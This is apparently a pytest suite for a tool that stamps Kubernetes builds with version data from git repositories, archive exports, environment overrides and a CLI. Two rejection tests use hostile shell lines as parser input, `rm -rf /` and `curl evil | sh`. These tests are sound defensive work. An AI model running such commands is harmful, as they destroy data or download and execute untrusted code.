"""Version stamps: the pure rules table-driven, `compute` against real git repositories and real
`git archive` exports, and the `inv version` CLI.

Where a value can be derived without our code it is: abbreviations from `git rev-parse --short=14`,
commit times from `git log -1 --format=%ct`, dates from `date -u`, and for git trees the real
v1.20.2 hack/lib/version.sh itself (run in bash, its archive block switched off) as an oracle.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from build.version import (
    FILE_KEYS,
    archive_values,
    check_semver,
    compute,
    major_minor,
    parse_version_file,
    semver_from_describe,
)
from common.errors import KBError, UsageError
from tests.conftest import REAL_TREE, git, inv, require
from workspace.sample import SAMPLE_ROOT

HEX14 = "0123456789abcd"
HEX16 = "0123456789abcdef"


# --------------------------------------------------------------------------- helpers

def _date(epoch: int | str) -> str:
    """The build date as `date -u +%Y-%m-%dT%H:%M:%SZ` prints it (version.sh's own command)."""
    return subprocess.run(["date", "-u", "-d", f"@{epoch}", "+%Y-%m-%dT%H:%M:%SZ"], check=True,
                          capture_output=True, text=True).stdout.strip()


def _commit(repo: Path, message: str, when: int | None = None, path: str = "file.txt") -> str:
    """Change a file and commit it (optionally at a fixed date); returns the commit."""
    f = repo / path
    f.parent.mkdir(parents=True, exist_ok=True)
    f.write_text((f.read_text() if f.exists() else "") + message + "\n")
    env = dict(os.environ)
    if when is not None:
        env["GIT_AUTHOR_DATE"] = env["GIT_COMMITTER_DATE"] = f"@{when} +0000"
    subprocess.run(["git", "add", "-A"], cwd=repo, check=True, env=env)
    subprocess.run(["git", "-c", "commit.gpgsign=false", "commit", "-q", "-m", message], cwd=repo, check=True,
                   env=env)
    return git(repo, "rev-parse", "HEAD")


def _repo(path: Path) -> Path:
    """An empty git repository at ``path``."""
    path.mkdir(parents=True)
    git(path, "init", "-q")
    return path


def _tag(repo: Path, name: str, annotated: bool = True) -> None:
    if annotated:
        git(repo, "-c", "tag.gpgsign=false", "tag", "-a", name, "-m", name)
    else:
        git(repo, "tag", name)


def _archive(repo: Path, ref: str, dest: Path) -> Path:
    """A real `git archive` export of ``ref`` (export-subst applied by git, mtimes from the commit)."""
    data = subprocess.run(["git", "archive", "--format=tar", ref], cwd=repo, check=True, capture_output=True).stdout
    dest.mkdir(parents=True)
    subprocess.run(["tar", "-x", "-C", str(dest)], input=data, check=True)
    return dest


@pytest.fixture(scope="module")
def oracle_script(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The real v1.20.2 version.sh with its archive block disabled, so it asks git as in a clone."""
    require((REAL_TREE / "hack" / "lib" / "version.sh").is_file(),
            "the real v1.20.2 version.sh, used as the oracle (.ci/run fetches it)")
    text = (REAL_TREE / "hack" / "lib" / "version.sh").read_text()
    assert text.count("""if [[ '%' == "%" ]]; then""") == 1
    text = text.replace("""if [[ '%' == "%" ]]; then""", """if [[ 'not-archived' == "%" ]]; then""")
    path = tmp_path_factory.mktemp("oracle") / "version.sh"
    path.write_text(text)
    return path


def _oracle(script: Path, root: Path, extra_env: dict[str, str] | None = None) -> dict[str, str]:
    """KUBE_GIT_* as Kubernetes' own get_version_vars computes them for ``root``."""
    prog = ('KUBE_ROOT="$1"; source "$2"; kube::version::get_version_vars; '
            + "; ".join(f'printf "%s=%s\\n" {k} "${{{k}-}}"' for k in FILE_KEYS))
    env = {**os.environ, **(extra_env or {})}
    out = subprocess.run(["bash", "-c", prog, "oracle", str(root), str(script)], cwd=root, env=env, check=True,
                         capture_output=True, text=True).stdout
    return dict(line.split("=", 1) for line in out.splitlines())


def _as_kube_vars(info) -> dict[str, str]:
    return dict(zip(FILE_KEYS, (info.commit, info.tree_state, info.version, info.major, info.minor), strict=True))


# --------------------------------------------------------------------------- pure rules

@pytest.mark.parametrize("describe, dirty, expected", [
    ("v1.20.2", False, "v1.20.2"),                                          # exact tag
    ("v1.20.2", True, "v1.20.2-dirty"),
    (f"v1.20.2-5-g{HEX14}", False, f"v1.20.2-5+{HEX14}"),                   # two dashes
    (f"v1.20.2-5-g{HEX14}", True, f"v1.20.2-5+{HEX14}-dirty"),
    (f"v1.21.0-alpha.1-5-g{HEX14}", False, f"v1.21.0-alpha.1.5+{HEX14}"),   # three dashes
    (f"v1.21.0-alpha.1-12-g{HEX14}", True, f"v1.21.0-alpha.1.12+{HEX14}-dirty"),
    (f"v1.20.2-5-g{HEX16}", False, f"v1.20.2-5-g{HEX16}"),                  # not 14 hex: left as is
    (f"v1.21.0-alpha.1-5-g{HEX16}", False, f"v1.21.0-alpha.1-5-g{HEX16}"),
    ("v1.20.2-5-g0123abc", False, "v1.20.2-5-g0123abc"),
    (f"v1.20.2-5-g{HEX14.upper()}", False, f"v1.20.2-5-g{HEX14.upper()}"),  # sed matches [0-9a-f] only
    ("v1.20.2-rc.0", False, "v1.20.2-rc.0"),                                # one dash: untouched
])
def test_semver_from_describe(describe: str, dirty: bool, expected: str) -> None:
    assert semver_from_describe(describe, dirty) == expected


@pytest.mark.parametrize("version, expected", [
    ("v1.20.2", ("1", "20")),
    ("v1.20", ("1", "20")),
    ("v1.20.2-dirty", ("1", "20+")),
    (f"v1.20.2-5+{HEX14}", ("1", "20+")),
    (f"v1.21.0-alpha.1.5+{HEX14}", ("1", "21+")),
    ("v1.21.0-alpha.1", ("1", "21+")),
    ("v10.200.3", ("10", "200")),
    ("1.20.2", ("", "")),
    ("vx.y", ("", "")),
])
def test_major_minor(version: str, expected: tuple[str, str]) -> None:
    assert major_minor(version) == expected


@pytest.mark.parametrize("version", [
    "v1.20.2", "v1.20", f"v1.20.2-5+{HEX14}", f"v1.21.0-alpha.1.5+{HEX14}-dirty", "v1.20.2-dirty",
    f"v1.20.2-5-g{HEX16}",
])
def test_check_semver_accepts(version: str) -> None:
    check_semver(version)


@pytest.mark.parametrize("version", ["1.20.2", "v1.20.2_rc1", "v1", "v1.x.2", "v1.20.2-", "v1.20.2+", "va.b",
                                     "v1.20.2 ", "v1.20.2-ü"])
def test_check_semver_refuses(version: str) -> None:
    with pytest.raises(KBError, match="Semantic Version"):
        check_semver(version)


def test_archive_values_unsubstituted_sample_is_none() -> None:
    text = (SAMPLE_ROOT / "hack" / "lib" / "version.sh").read_text()
    assert "$Format:" in text  # the checked-in file really is unsubstituted
    assert archive_values(text) is None


def test_archive_values_of_text_without_the_block_is_none() -> None:
    assert archive_values("#!/bin/bash\necho hi\n") is None
    assert archive_values("") is None


def test_archive_values_real_v1_20_2(real_tree: Path) -> None:
    text = (real_tree / "hack" / "lib" / "version.sh").read_text()
    assert archive_values(text) == ("faecb196815e248d3ecfb03c680a4507229c2a56", "v1.20.2")


def test_archive_values_refs_without_tag() -> None:
    text = """
  if [[ '%' == "%" ]]; then
    KUBE_GIT_COMMIT='1111111111111111111111111111111111111111'
    KUBE_GIT_TREE_STATE="archive"
    if [[ 'HEAD -> master, origin/master' =~ tag:\\ (v[^ ,]+) ]]; then
     KUBE_GIT_VERSION="${BASH_REMATCH[1]}"
    fi
  fi
"""
    assert archive_values(text) == ("1" * 40, "")


def test_archive_values_takes_tag_among_several_refs() -> None:
    text = """
  if [[ '%' == "%" ]]; then
    KUBE_GIT_COMMIT='2222222222222222222222222222222222222222'
    if [[ 'HEAD -> release-1.8, tag: v1.8.3, origin/release-1.8' =~ tag:\\ (v[^ ,]+) ]]; then
"""
    assert archive_values(text) == ("2" * 40, "v1.8.3")


@pytest.mark.parametrize("text, expected", [
    ("KUBE_GIT_COMMIT='abc'\nKUBE_GIT_VERSION='v1.2.3'\n", {"KUBE_GIT_COMMIT": "abc", "KUBE_GIT_VERSION": "v1.2.3"}),
    ("export KUBE_GIT_MAJOR='1'\nexport KUBE_GIT_MINOR=\"20+\"\n", {"KUBE_GIT_MAJOR": "1", "KUBE_GIT_MINOR": "20+"}),
    ("# a comment\n\n  KUBE_GIT_TREE_STATE=clean  # trailing\n", {"KUBE_GIT_TREE_STATE": "clean"}),
    ("KUBE_GIT_VERSION=''\n", {"KUBE_GIT_VERSION": ""}),
])
def test_parse_version_file(text: str, expected: dict[str, str]) -> None:
    assert parse_version_file(text) == expected


@pytest.mark.parametrize("text", [
    "KUBE_GIT_COMMIT='abc'\nrm -rf /\n",
    "echo hello\n",
    "KUBE_GIT_COMMIT='unterminated\n",
    "kube_git_commit=lowercase\n",
])
def test_parse_version_file_refuses_garbage(text: str) -> None:
    with pytest.raises(UsageError, match="KUBE_GIT_VERSION_FILE line"):
        parse_version_file(text)


def test_parse_version_file_reads_what_bash_sources(tmp_path: Path) -> None:
    """Cross-check: bash's `source` and our parser agree on the same file."""
    text = "KUBE_GIT_COMMIT='c0ffee'\nexport KUBE_GIT_VERSION=\"v1.2.3-rc.1\"\nKUBE_GIT_MINOR=2+\n"
    f = tmp_path / "v.env"
    f.write_text(text)
    out = subprocess.run(["bash", "-c", 'source "$1"; printf "%s|%s|%s" "$KUBE_GIT_COMMIT" "$KUBE_GIT_VERSION" '
                          '"$KUBE_GIT_MINOR"', "x", str(f)], check=True, capture_output=True, text=True).stdout
    values = parse_version_file(text)
    assert out == "|".join([values["KUBE_GIT_COMMIT"], values["KUBE_GIT_VERSION"], values["KUBE_GIT_MINOR"]])


# --------------------------------------------------------------------------- compute on real git repositories

def test_exact_tag(tmp_path: Path, oracle_script: Path) -> None:
    repo = _repo(tmp_path / "r")
    head = _commit(repo, "one")
    _tag(repo, "v1.20.2")
    info = compute(repo, dict(os.environ))
    assert (info.commit, info.tree_state, info.version, info.major, info.minor) == (
        head, "clean", "v1.20.2", "1", "20")
    assert info.source == "git"
    assert _as_kube_vars(info) == _oracle(oracle_script, repo)


def test_distance_from_release_tag(tmp_path: Path, oracle_script: Path) -> None:
    repo = _repo(tmp_path / "r")
    _commit(repo, "tagged")
    _tag(repo, "v1.20.2")
    for i in range(5):
        _commit(repo, f"after {i}")
    abbrev = git(repo, "rev-parse", "--short=14", "HEAD")
    assert len(abbrev) == 14
    info = compute(repo, dict(os.environ))
    assert info.version == f"v1.20.2-5+{abbrev}"
    assert (info.major, info.minor) == ("1", "20+")
    assert _as_kube_vars(info) == _oracle(oracle_script, repo)


def test_distance_from_prerelease_tag(tmp_path: Path, oracle_script: Path) -> None:
    repo = _repo(tmp_path / "r")
    _commit(repo, "tagged")
    _tag(repo, "v1.21.0-alpha.1", annotated=False)  # lightweight tags count too (--tags)
    for i in range(5):
        _commit(repo, f"after {i}")
    abbrev = git(repo, "rev-parse", "--short=14", "HEAD")
    info = compute(repo, dict(os.environ))
    assert info.version == f"v1.21.0-alpha.1.5+{abbrev}"
    assert (info.major, info.minor) == ("1", "21+")
    assert _as_kube_vars(info) == _oracle(oracle_script, repo)


def test_only_v_tags_are_used(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "r")
    _commit(repo, "one")
    _tag(repo, "v1.20.2")
    _commit(repo, "two")
    _tag(repo, "release-candidate")  # not v*: describe --match='v*' ignores it
    info = compute(repo, dict(os.environ))
    assert info.version == f"v1.20.2-1+{git(repo, 'rev-parse', '--short=14', 'HEAD')}"


@pytest.mark.parametrize("how", ["modified", "untracked", "staged"])
def test_dirty(tmp_path: Path, oracle_script: Path, how: str) -> None:
    repo = _repo(tmp_path / "r")
    _commit(repo, "one")
    _tag(repo, "v1.20.2")
    if how == "modified":
        (repo / "file.txt").write_text("changed\n")
    elif how == "untracked":
        (repo / "new.go").write_text("package main\n")
    else:
        (repo / "staged.txt").write_text("x\n")
        git(repo, "add", "staged.txt")
    assert git(repo, "status", "--porcelain")  # git agrees it is dirty
    info = compute(repo, dict(os.environ))
    assert info.tree_state == "dirty"
    assert info.version == "v1.20.2-dirty"
    assert (info.major, info.minor) == ("1", "20+")
    assert _as_kube_vars(info) == _oracle(oracle_script, repo)


def test_ignored_file_is_not_dirty(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "r")
    (repo / ".gitignore").write_text("_output/\n")
    _commit(repo, "one")
    _tag(repo, "v1.20.2")
    (repo / "_output").mkdir()
    (repo / "_output" / "bin").write_text("x")
    info = compute(repo, dict(os.environ))
    assert (info.tree_state, info.version) == ("clean", "v1.20.2")


def test_invalid_tag_is_refused(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "r")
    _commit(repo, "one")
    _tag(repo, "v1.20.2_custom")
    with pytest.raises(KBError, match="v1.20.2_custom"):
        compute(repo, dict(os.environ))


def test_no_tags_gives_commit_but_no_version(tmp_path: Path, oracle_script: Path) -> None:
    repo = _repo(tmp_path / "r")
    head = _commit(repo, "one")
    info = compute(repo, dict(os.environ))
    assert info.commit == head
    assert info.tree_state == "clean"
    assert (info.version, info.major, info.minor) == ("", "", "")
    assert _as_kube_vars(info) == _oracle(oracle_script, repo)


def test_not_a_repository_gives_only_a_date(tmp_path: Path) -> None:
    tree = tmp_path / "plain"
    (tree / "hack" / "lib").mkdir(parents=True)
    info = compute(tree, {"SOURCE_DATE_EPOCH": "100"})
    assert (info.commit, info.tree_state, info.version, info.major, info.minor) == ("", "", "", "", "")
    assert info.build_date == _date(100)
    assert [k for k, _ in info.ldflag_values()] == ["buildDate"]


def test_build_date_is_head_commit_time(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "r")
    _commit(repo, "old", when=1_500_000_000)
    _commit(repo, "newer", when=1_600_000_123)
    _tag(repo, "v1.20.2")
    ct = git(repo, "log", "-1", "--format=%ct")
    assert ct == "1600000123"
    first = compute(repo, dict(os.environ))
    assert first.build_date == _date(ct)
    (repo / "unrelated").touch()  # later changes to the work tree don't move the date
    second = compute(repo, dict(os.environ))
    assert second.build_date == first.build_date


def test_two_computes_are_equal(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "r")
    _commit(repo, "one")
    _tag(repo, "v1.20.2")
    assert compute(repo, dict(os.environ)) == compute(repo, dict(os.environ))


def test_source_date_epoch_wins(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "r")
    _commit(repo, "one", when=1_600_000_000)
    info = compute(repo, {**os.environ, "SOURCE_DATE_EPOCH": "86461"})
    assert info.build_date == _date(86461) == "1970-01-02T00:01:01Z"


@pytest.mark.parametrize("bad", ["yesterday", "-5", "1.5", "12 34"])
def test_source_date_epoch_non_numeric(tmp_path: Path, bad: str) -> None:
    repo = _repo(tmp_path / "r")
    _commit(repo, "one")
    with pytest.raises(UsageError, match="SOURCE_DATE_EPOCH"):
        compute(repo, {**os.environ, "SOURCE_DATE_EPOCH": bad})


def test_version_file_is_honoured_and_not_transformed(tmp_path: Path, oracle_script: Path) -> None:
    repo = _repo(tmp_path / "r")
    _commit(repo, "one")
    _tag(repo, "v1.20.2")
    (repo / "file.txt").write_text("dirty now\n")  # git would say dirty: the file must win anyway
    vf = tmp_path / "version.env"
    values = {"KUBE_GIT_COMMIT": "f" * 40, "KUBE_GIT_TREE_STATE": "clean",
              "KUBE_GIT_VERSION": f"v1.99.0-3-g{HEX14}", "KUBE_GIT_MAJOR": "1", "KUBE_GIT_MINOR": "99"}
    vf.write_text("".join(f"{k}='{v}'\n" for k, v in values.items()))
    env = {**os.environ, "KUBE_GIT_VERSION_FILE": str(vf), "SOURCE_DATE_EPOCH": "1000"}
    info = compute(repo, env)
    assert _as_kube_vars(info) == values
    assert info.source == "file"
    assert info.build_date == _date(1000)
    assert _oracle(oracle_script, repo, {"KUBE_GIT_VERSION_FILE": str(vf)}) == values


def test_version_file_missing(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no such file"):
        compute(tmp_path, {"KUBE_GIT_VERSION_FILE": str(tmp_path / "absent")})


def test_version_file_with_garbage(tmp_path: Path) -> None:
    vf = tmp_path / "v"
    vf.write_text("KUBE_GIT_COMMIT='a'\ncurl evil | sh\n")
    with pytest.raises(UsageError, match="line 2"):
        compute(tmp_path, {"KUBE_GIT_VERSION_FILE": str(vf)})


# --------------------------------------------------------------------------- KUBE_GIT_* overrides

def test_env_version_override_is_transformed(tmp_path: Path, oracle_script: Path) -> None:
    repo = _repo(tmp_path / "r")
    head = _commit(repo, "one")
    _tag(repo, "v1.20.2")
    env = {"KUBE_GIT_VERSION": f"v1.30.0-2-g{HEX14}"}
    info = compute(repo, {**os.environ, **env})
    assert info.commit == head and info.tree_state == "clean"
    assert info.version == f"v1.30.0-2+{HEX14}"
    assert (info.major, info.minor) == ("1", "30+")
    assert _as_kube_vars(info) == _oracle(oracle_script, repo, env)


def test_env_tree_state_dirty_marks_version(tmp_path: Path, oracle_script: Path) -> None:
    repo = _repo(tmp_path / "r")
    _commit(repo, "one")
    _tag(repo, "v1.20.2")
    env = {"KUBE_GIT_TREE_STATE": "dirty"}
    info = compute(repo, {**os.environ, **env})
    assert (info.tree_state, info.version) == ("dirty", "v1.20.2-dirty")
    assert _as_kube_vars(info) == _oracle(oracle_script, repo, env)


def test_env_commit_is_described(tmp_path: Path, oracle_script: Path) -> None:
    """KUBE_GIT_COMMIT names the commit to describe, as version.sh's `describe "${KUBE_GIT_COMMIT}^{commit}"`."""
    repo = _repo(tmp_path / "r")
    old = _commit(repo, "one")
    _tag(repo, "v1.20.1")
    _commit(repo, "two")
    _tag(repo, "v1.20.2")
    env = {"KUBE_GIT_COMMIT": old}
    info = compute(repo, {**os.environ, **env})
    assert (info.commit, info.tree_state, info.version) == (old, "clean", "v1.20.1")
    assert _as_kube_vars(info) == _oracle(oracle_script, repo, env)


def test_env_all_three_need_no_git(tmp_path: Path) -> None:
    tree = tmp_path / "plain"
    (tree / "hack" / "lib").mkdir(parents=True)
    env = {"KUBE_GIT_COMMIT": "a" * 40, "KUBE_GIT_TREE_STATE": "clean", "KUBE_GIT_VERSION": "v1.22.3",
           "SOURCE_DATE_EPOCH": "5"}
    info = compute(tree, env)
    assert (info.commit, info.tree_state, info.version, info.major, info.minor) == (
        "a" * 40, "clean", "v1.22.3", "1", "22")


def test_env_commit_without_git_status_defaults_to_dirty(tmp_path: Path) -> None:
    tree = tmp_path / "plain"
    tree.mkdir()
    info = compute(tree, {"KUBE_GIT_COMMIT": "b" * 40, "KUBE_GIT_VERSION": "v1.22.3", "SOURCE_DATE_EPOCH": "5"})
    assert (info.tree_state, info.version) == ("dirty", "v1.22.3-dirty")


def test_env_invalid_version_refused(tmp_path: Path) -> None:
    repo = _repo(tmp_path / "r")
    _commit(repo, "one")
    with pytest.raises(KBError, match="Semantic Version"):
        compute(repo, {**os.environ, "KUBE_GIT_VERSION": "1.2.3"})


# --------------------------------------------------------------------------- git archive exports

def test_git_archive_of_tagged_sample(sample_repo, tmp_path: Path) -> None:
    repo = sample_repo("gopath", tag="v1.20.2")
    out = _archive(repo, "v1.20.2", tmp_path / "export")
    assert not (out / ".git").exists()
    head = git(repo, "rev-parse", "v1.20.2^{commit}")
    info = compute(out, {})
    assert (info.commit, info.tree_state, info.version, info.major, info.minor) == (
        head, "archive", "v1.20.2", "1", "20")
    assert info.source == "archive"
    ct = git(repo, "log", "-1", "--format=%ct", head)
    assert int((out / "hack" / "lib" / "version.sh").stat().st_mtime) == int(ct)
    assert info.build_date == _date(ct)


def test_git_archive_of_untagged_commit(sample_repo, tmp_path: Path) -> None:
    repo = sample_repo("gopath", tag=None)
    head = git(repo, "rev-parse", "HEAD")
    out = _archive(repo, "HEAD", tmp_path / "export")
    text = (out / "hack" / "lib" / "version.sh").read_text()
    assert archive_values(text) == (head, "")
    info = compute(out, {})
    assert (info.commit, info.tree_state, info.version, info.major, info.minor) == (head, "archive", "", "", "")


def test_archive_values_beat_environment_commit(sample_repo, tmp_path: Path) -> None:
    """version.sh's archive block assigns KUBE_GIT_COMMIT unconditionally."""
    repo = sample_repo("gopath", tag="v1.20.2")
    out = _archive(repo, "v1.20.2", tmp_path / "export")
    info = compute(out, {"KUBE_GIT_COMMIT": "c" * 40})
    assert info.commit == git(repo, "rev-parse", "HEAD")
    assert info.tree_state == "archive"


# --------------------------------------------------------------------------- the CLI

def test_cli_shell_lines(sample_repo) -> None:
    repo = sample_repo("gopath", tag="v1.20.2")
    head = git(repo, "rev-parse", "HEAD")
    proc = inv("version", "--kube-root", str(repo), check=True)
    ct = git(repo, "log", "-1", "--format=%ct")
    assert proc.stdout.splitlines() == [
        f"KUBE_GIT_COMMIT='{head}'", "KUBE_GIT_TREE_STATE='clean'", "KUBE_GIT_VERSION='v1.20.2'",
        "KUBE_GIT_MAJOR='1'", "KUBE_GIT_MINOR='20'", f"KUBE_BUILD_DATE='{_date(ct)}'"]


def test_cli_json(sample_repo) -> None:
    repo = sample_repo("gopath", tag="v1.20.2")
    (repo / "untracked.go").write_text("package x\n")
    data = json.loads(inv("version", "--kube-root", str(repo), "--json", check=True).stdout)
    assert {"major", "minor", "gitVersion", "gitCommit", "gitTreeState", "buildDate"} <= data.keys()
    assert data["gitCommit"] == git(repo, "rev-parse", "HEAD")
    assert (data["gitVersion"], data["gitTreeState"], data["major"], data["minor"]) == (
        "v1.20.2-dirty", "dirty", "1", "20+")


def test_cli_file_round_trips_through_bash(sample_repo, tmp_path: Path) -> None:
    repo = sample_repo("gopath", tag="v1.20.2")
    (repo / "extra").write_text("x\n")
    git(repo, "add", "extra")
    git(repo, "-c", "commit.gpgsign=false", "commit", "-q", "-m", "two")
    vf = tmp_path / "out" / "version.env"
    vf.parent.mkdir()
    data = json.loads(inv("version", "--kube-root", str(repo), "--json", "--file", str(vf), check=True).stdout)
    lines = vf.read_text().splitlines()
    assert [line.split("=", 1)[0] for line in lines] == list(FILE_KEYS)
    sourced = subprocess.run(
        ["bash", "-c", 'set -u; source "$1"; printf "%s\\n" ' + " ".join(f'"${k}"' for k in FILE_KEYS), "x", str(vf)],
        check=True, capture_output=True, text=True, env={"PATH": os.environ["PATH"]}).stdout.splitlines()
    expected_version = f"v1.20.2-1+{git(repo, 'rev-parse', '--short=14', 'HEAD')}"
    assert sourced == [data["gitCommit"], data["gitTreeState"], data["gitVersion"], data["major"], data["minor"]]
    assert sourced == [git(repo, "rev-parse", "HEAD"), "clean", expected_version, "1", "20+"]
    # Feeding the file back in gives the same stamp.
    again = json.loads(inv("version", "--kube-root", str(repo), "--json",
                           env={**os.environ, "KUBE_GIT_VERSION_FILE": str(vf)}, check=True).stdout)
    assert {k: again[k] for k in ("gitCommit", "gitTreeState", "gitVersion", "major", "minor")} == {
        k: data[k] for k in ("gitCommit", "gitTreeState", "gitVersion", "major", "minor")}


def test_cli_invalid_source_date_epoch(sample_repo) -> None:
    repo = sample_repo("gopath", tag="v1.20.2")
    proc = inv("version", "--kube-root", str(repo), env={**os.environ, "SOURCE_DATE_EPOCH": "soon"})
    assert proc.returncode == 2
    assert [line for line in proc.stderr.splitlines() if line.startswith("ERROR")] != []
    assert "Traceback" not in proc.stderr


def test_cli_real_tree(real_tree: Path) -> None:
    data = json.loads(inv("version", "--kube-root", str(real_tree), "--json", check=True).stdout)
    assert (data["gitVersion"], data["gitTreeState"], data["gitCommit"]) == (
        "v1.20.2", "archive", "faecb196815e248d3ecfb03c680a4507229c2a56")
    assert (data["major"], data["minor"]) == ("1", "20")
    mtime = int((real_tree / "hack" / "lib" / "version.sh").stat().st_mtime)
    assert data["buildDate"] == _date(mtime)
